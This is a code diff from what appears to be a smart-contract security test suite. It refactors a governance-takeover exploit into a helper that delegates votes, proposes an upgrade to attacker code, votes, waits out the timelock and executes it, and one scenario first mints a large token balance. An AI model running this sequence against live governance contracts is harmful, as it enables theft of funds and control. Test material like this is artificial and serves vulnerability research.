@@ -80,6 +80,23 @@ export async function voting(chain: Chain, name: string, tokenFor: (lock: Hex) =
   return { lock, token, governor }
 }
 
+/** Takes control by a vote of the attacker, which holds most of the tokens of OpenZeppelin's governor. */
+export async function passAsVoter(attack: Attack, built: Built): Promise<void> {
+  const governor = part(built, 'governor')
+  const calls = [[part(built, 'admin')], [0n], [upgradeCall(built.address, attack.code)]]
+  const hashed = [...calls, keccak256(stringToHex('take'))]
+  await attack.send(part(built, 'token'), 'delegate(address)', [attack.account.address])
+  await attack.mine(2)
+  await attack.send(governor, 'propose(address[],uint256[],bytes[],string)', [...calls, 'take'])
+  const id = await attack.read(governor, 'hashProposal(address[],uint256[],bytes[],bytes32)', hashed)
+  await attack.mine(12)
+  await attack.send(governor, 'castVote(uint256,uint8)', [BigInt(id), 1])
+  await attack.mine(101)
+  await attack.send(governor, 'queue(address[],uint256[],bytes[],bytes32)', hashed)
+  await attack.wait(172_801)
+  await attack.send(governor, 'execute(address[],uint256[],bytes[],bytes32)', hashed)
+}
+
 const plainLogic = (chain: Chain): Promise<Hex> => chain.deploy('Plain')
 const ZERO_WORD = toHex(0, { size: 32 })
 
@@ -427,20 +444,8 @@ const drafts: readonly Draft[] = [
     settings: NEW_EVM,
     build: (chain) => governed(chain, () => chain.hidden().address),
     exploit: async (attack, built) => {
-      const [token, governor] = [part(built, 'token'), part(built, 'governor')]
-      const calls = [[part(built, 'admin')], [0n], [upgradeCall(built.address, attack.code)]]
-      const hashed = [...calls, keccak256(stringToHex('take'))]
-      await attack.send(token, 'mint(uint256)', [10n ** 24n])
-      await attack.send(token, 'delegate(address)', [attack.account.address])
-      await attack.mine(2)
-      await attack.send(governor, 'propose(address[],uint256[],bytes[],string)', [...calls, 'take'])
-      const id = await attack.read(governor, 'hashProposal(address[],uint256[],bytes[],bytes32)', hashed)
-      await attack.mine(12)
-      await attack.send(governor, 'castVote(uint256,uint8)', [BigInt(id), 1])
-      await attack.mine(101)
-      await attack.send(governor, 'queue(address[],uint256[],bytes[],bytes32)', hashed)
-      await attack.wait(172_801)
-      await attack.send(governor, 'execute(address[],uint256[],bytes[],bytes32)', hashed)
+      await attack.send(part(built, 'token'), 'mint(uint256)', [10n ** 24n])
+      await passAsVoter(attack, built)
     },
   },
 ]
